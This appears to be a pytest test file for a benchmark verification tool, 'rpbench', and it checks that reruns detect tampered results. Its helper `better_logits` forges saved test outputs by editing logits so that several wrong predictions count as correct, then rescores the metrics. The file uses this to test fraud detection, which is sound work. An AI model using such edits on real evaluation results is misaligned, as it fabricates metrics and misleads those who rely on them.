def better_logits(f: Forgery) -> str:
    """The net's answers mended where they were wrong, in every output, and all metrics as they follow."""
    cell = f.cells[0]
    same = f.record()["metrics"]["epoch"] == f.record()["last"]["epoch"]
    for name in ("selected/test", *(["last/test"] if same else [])):
        arrays = f.outputs(name)
        logits = arrays["logits"].copy()
        wrong = np.flatnonzero(logits.argmax(axis=1) != arrays["labels"])[:8]
        logits[wrong, arrays["labels"][wrong]] = logits[wrong].max(axis=1) + 1
        f.write_outputs(name, arrays | {"logits": logits})
    f.rescore()
    return cell.name


def test_what_only_a_rerun_finds(
    lab: Path, forgery: Forgery, invoke: Invoke, monkeypatch: pytest.MonkeyPatch, quick: None
) -> None:
    """Outputs that were made up, and everything that follows from them: trained again it is another result."""
    from rpbench.machine import Processes
    from rpbench.pack import run_lanes

    def in_this_process(asks: Any, wish: Any, slots: int, watch: Any, **_: Any) -> Any:
        return run_lanes([ask(**each) for each in asks], wish, slots, watch, Processes())

    monkeypatch.setattr("rpbench.rerun.run_packed", in_this_process)
    name = better_logits(forgery)
    forgery.seal()
    words = ("verify", str(forgery.place), "--board", str(lab / "small.toml"))
    assert invoke(*words).exit_code == 0
    done = invoke(*words, "--cell", name, "--format", "json")
    assert done.exit_code == 1
    told = json.loads(done.stdout)
    (fault,) = told["faults"]
    assert (fault["check"], fault["rule"], fault["where"]) == ("rerun", "R13", name)
    assert "agree to the bit" in fault["why"]
    assert told["rerun"]["cells"][0]["outcome"] == "outside"
    honest = invoke("verify", str(lab / "bundle"), *words[2:], "--rerun", "1", "--rerun-seed", "0")
    assert honest.exit_code == 0
    assert "equal to the bit: top-1" in honest.stdout


@pytest.mark.parametrize(
    ("args", "says"),
    [
        (("nothing",), "is neither a bundle"),
        (("fig1",), "has no records of board 'fig1'"),
        (("digits", "--store", "."), "has no record of board 'digits'"),
        (("digits", "--cell", "x"), "there is no such cell"),
    ],
)
def test_usage(
    args: tuple[str, ...], says: str, invoke: Invoke, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr("rpbench.verification.CHECKS", ())
    done = invoke("verify", *args)
    assert done.exit_code == 2
    assert says in done.stderr


@pytest.mark.slow
@pytest.mark.parametrize("board", published_boards(root_of()))
def test_what_ships_passes(board: str, request: pytest.FixtureRequest) -> None:
    roots = Roots((request.getfixturevalue("real_images"),)) if board != "digits" else Roots()
    with published_subject(board, roots=roots).known as known:
        assert not failed(checked(replace(published_subject(board, roots=roots), known=known)))
